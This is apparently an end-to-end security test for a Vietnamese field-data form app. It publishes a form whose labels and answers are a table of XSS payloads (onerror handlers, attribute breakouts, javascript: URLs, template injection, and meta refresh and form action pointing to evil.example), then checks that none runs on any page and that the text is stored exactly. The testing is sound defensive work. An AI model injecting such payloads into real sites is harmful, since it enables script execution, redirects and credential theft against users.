// Strings that break pages: as an answer, and as everything else that stands on a page of the app. Ids are those of the bad inputs.
// 1  Nothing of them runs, nothing of them becomes an element, nothing is fetched; not even the policy had to stop it.
// 2  What is typed is kept to the letter (NFC), on the phone and on the server.
// 3  What only looks like an answer is not taken for one where an answer is required; what is too long is said.
import { readFileSync } from 'node:fs'
import { join } from 'node:path'
import { strToU8, zipSync } from 'fflate'
import type { Page } from 'playwright-core'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { root } from '../../scripts/root.ts'
import { adminToken } from './harness.ts'
import { drawn, enrolOn, fillByThumb, goOn, heading, kept, phoneIn, sendForm, tap, until } from './phone.ts'
import type { Phone } from './phone.ts'
import { startTrial, village } from './trial.ts'
import type { Trial } from './trial.ts'

const xss: Readonly<Record<string, string>> = {
  'xss-002': '<img src=x onerror="window.__xss=1">',
  'xss-004': '" autofocus onfocus="window.__xss=1',
  'xss-005': "' onmouseover='window.__xss=1",
  'xss-006': '</textarea><script>window.__xss=1</script>',
  'xss-010': 'javascript:window.__xss=1',
  'xss-016': '<details open ontoggle="window.__xss=1">',
  'xss-017': '<style>@import "//evil.example"</style>',
  'xss-018': '<math><mtext><table><mglyph><style><img src=x onerror=window.__xss=1>',
  'xss-019': '&lt;img src=x onerror=window.__xss=1&gt;',
  'xss-020': '${window.__xss=1}',
  'xss-021': '{{constructor.constructor("window.__xss=1")()}}',
  'xss-023': '<meta http-equiv=refresh content="0;url=//evil.example">',
  'xss-025': '<form action="//evil.example"><button>',
}
interface Case {
  readonly id: string
  readonly area: string
  readonly class: string
  readonly input: { readonly answer?: unknown }
}
const texts = (JSON.parse(readFileSync(join(root, 'test/bad-inputs.json'), 'utf8')) as readonly Case[]).filter(({ area }) => area === 'text')
const strings: readonly (readonly [string, string])[] = [
  ...Object.entries(xss),
  ...texts.filter((one) => typeof one.input.answer === 'string' && one.class !== 'reject').map((one) => [one.id, one.input.answer as string] as const),
]
// In a form's own words `${` begins an expression: such a label is refused when the form is published.
const sayable = strings.map(([, text]) => text).filter((text) => !text.includes('${') && !text.includes('\n'))
const all = sayable.filter((text) => /[<"'&]/.test(text)).join(' ')
const yaml = (text: string): string => JSON.stringify(text)

const source = `id: texts
title: ${yaml(`Biểu mẫu ${all}`)}
language: vi
date: \${day}
unit: \${place}
instance_name: \${a0}
survey:
  - type: group
    name: g
    label: ${yaml(`Phần ${all}`)}
    hint: ${yaml(all)}
    questions:
      - { type: unit village, name: place, label: Thôn, required: yes }
      - { type: date, name: day, label: Ngày, required: yes, default: today() }
      - { type: entry thing, name: ref, label: Mục }
      - { type: select_one odd, name: pick, label: Chọn }
${strings.map(([, text], i) => `      - { type: text, name: a${i}, ${sayable.includes(text) ? `label: ${yaml(text)}, hint: ${yaml(text)}` : `label: Câu ${i}`}, appearance: multiline }`).join('\n')}
      - { type: text, name: must, label: Phải ghi, required: yes, constraint: string-length(.) < 50, constraint_message: ${yaml(all)} }
choices:
  odd:
${sayable.slice(0, 10).map((text, i) => `    - { name: c${i}, label: ${yaml(text)} }`).join('\n')}
registers:
  - register: thing
    label: \${a0}
    unit: \${place}
    columns:
      place: \${place}
`

let desk: Trial
let phone: Phone
const asked: string[] = []

beforeAll(async () => {
  desk = await startTrial()
  const zip = zipSync({ 'form.yaml': strToU8(source) })
  const published = await fetch(`${desk.url}/api/forms`, { method: 'POST', body: zip as BodyInit, headers: { authorization: `Bearer ${adminToken}`, 'content-type': 'application/zip' } })
  expect(await published.text()).toContain('"version":1')
  phone = await phoneIn(await desk.browser(), desk.proxy.url, { script: "document.addEventListener('securitypolicyviolation', (event) => { (globalThis.stopped ??= []).push(event.violatedDirective + ' ' + event.blockedURI) })" })
  phone.context.on('request', (request) => asked.push(request.url()))
})
afterAll(async () => {
  await phone?.close()
  await desk?.stop()
})

/** Nothing of the strings lives on this page. */
async function inert(page: Page, where: string): Promise<void> {
  const found = await page.evaluate<unknown>(`({
    xss: window.__xss, stopped: window.stopped,
    alive: [...document.body.querySelectorAll('img[src=x],[onerror],[onfocus],[onmouseover],[ontoggle],style,math,meta,mglyph,form[action*=evil],a[href^=javascript],details[open][ontoggle],main script')].map((one) => one.outerHTML.slice(0, 80)),
  })`)
  expect(found, where).toEqual({ xss: undefined, stopped: undefined, alive: [] })
}

test('1 2 strings that break pages, on every page of the app', async () => {
  const { page } = phone
  const officer = await desk.officer(`Cán bộ ${all}`.slice(0, 190))
  const link = await officer.link()
  await page.goto(link)
  await drawn(page)
  await inert(page, 'entrance')
  await enrolOn(phone, link)
  await inert(page, 'home')
  await page.locator('main a[href="/forms/texts"]').first().tap()
  await page.getByRole('button', { name: 'Bắt đầu ghi' }).waitFor()
  await inert(page, 'begin')
  await tap(page, 'Bắt đầu ghi')
  await page.waitForURL(/\/fill\/.*\/1$/)
  await inert(page, 'empty form')
  await fillByThumb(page, { place: village, pick: 'c0', must: 'x'.repeat(60) })
  for (const [i, [, text]] of strings.entries()) await page.locator(`[name=a${i}]`).fill(text)
  await kept(page)
  await inert(page, 'full form')
  await tap(page, 'Lưu và đi tiếp')
  await page.locator('#problems').waitFor()
  await inert(page, 'problems')
  await fillByThumb(page, { must: 'đủ' })
  await page.reload()
  await drawn(page)
  for (const [i, [id, text]] of strings.entries()) expect(await page.locator(`[name=a${i}]`).inputValue(), id).toBe(text.normalize('NFC'))
  await inert(page, 'form again')
  await phone.open('/')
  await inert(page, 'home with a draft')
  await page.locator('main a[href^="/fill/"]').first().tap()
  await page.waitForURL(/\/fill\//)
  await goOn(page)
  await heading(page, 'Xem lại trước khi gửi')
  await inert(page, 'check')
  const summary = (await page.locator('main').textContent()) ?? ''
  for (const [id, text] of strings) expect(summary, id).toContain(text.normalize('NFC'))
  await tap(page, 'Bỏ phiếu đang ghi này', 'link')
  await heading(page, 'Bỏ phiếu đang ghi?')
  await page.goBack()
  await sendForm(page)
  await inert(page, 'record')
  await until(async () => (await desk.rows()).length === 1)
  const [row] = await desk.rows()

  // To the letter on the server.
  const reviewer = await desk.enrol({ name: 'Văn Phòng', role: 'reviewer', unit: null })
  const kept1 = (await (await desk.api('GET', `/api/submissions/${row?.id}`, reviewer)).json()) as { revisions: { submission: { answers: Record<string, string> } }[] }
  for (const [i, [id, text]] of strings.entries()) expect(kept1.revisions[0]?.submission.answers[`a${i}`], id).toBe(text.normalize('NFC'))

  // The office's comment, the entry that was made, a PIN page, the lists.
  expect((await desk.api('POST', `/api/submissions/${row?.id}/review`, reviewer, { state: 'returned', comment: all.slice(0, 900), question: 'a0' })).status).toBe(200)
  await phone.open('/')
  await until(async () => (await page.locator('main').innerText()).includes('Văn phòng hỏi'))
  await inert(page, 'home with a comment')
  for (const path of ['/sent', '/sent?state=returned', '/phone']) {
    await phone.open(path)
    await inert(page, path)
  }
  const [record] = await phone.shelf<{ n: number }>('records')
  await phone.open(`/sent/${record?.n}`)
  await inert(page, 'returned record')
  await tap(page, 'Sửa và gửi lại')
  await page.waitForURL(/\/fill\/.*#q-a0$/)
  await inert(page, 'correction')
  await until(async () => (await phone.shelf<{ rows?: unknown[] }>('pages')).some(({ rows = [] }) => rows.length > 0))
  await phone.open('/forms/texts')
  await tap(page, 'Bắt đầu ghi')
  await page.waitForURL(/\/fill\/.*\/1$/)
  expect(await page.locator('[data-key=ref]').innerText()).toContain(strings[0]?.[1])
  await inert(page, 'entry')
  await page.locator('[data-key=ref] label.choice').first().tap()
  await kept(page)
  await inert(page, 'entry chosen')
  await tap(page, 'English')
  await page.locator('html[lang=en]').waitFor({ state: 'attached' })
  await inert(page, 'English')
  await tap(page, 'Tiếng Việt')
  await phone.open('/phone')
  await page.locator('#pin').fill('2468')
  await Promise.all([page.waitForEvent('load'), tap(page, 'Đặt PIN')])
  const other = await phone.context.newPage()
  await other.goto(`${phone.url}/`)
  await drawn(other)
  await inert(other, 'PIN')
  await other.close()
  expect(asked.filter((url) => !url.startsWith(phone.url) && !url.startsWith('data:') && !url.startsWith('blob:'))).toEqual([])
})

test('3 what only looks like an answer is none', async () => {
  const { page } = phone
  await phone.open('/forms/texts')
  await tap(page, 'Bắt đầu ghi')
  await page.waitForURL(/\/fill\/.*\/1$/)
  await fillByThumb(page, { place: village })
  for (const { id, input } of texts.filter((one) => one.class === 'reject')) {
    const { answer } = input
    const text = typeof answer === 'string' ? answer : 'ă'.repeat(10_001)
    await page.locator('[name=must]').fill(text)
    await kept(page)
    await tap(page, 'Lưu và đi tiếp')
    await until(async () => (await page.locator('#problems').count()) > 0 && (await page.locator('#problems').innerText()).includes('Phải ghi'))
    expect(page.url(), id).toMatch(/\/fill\//)
  }
})
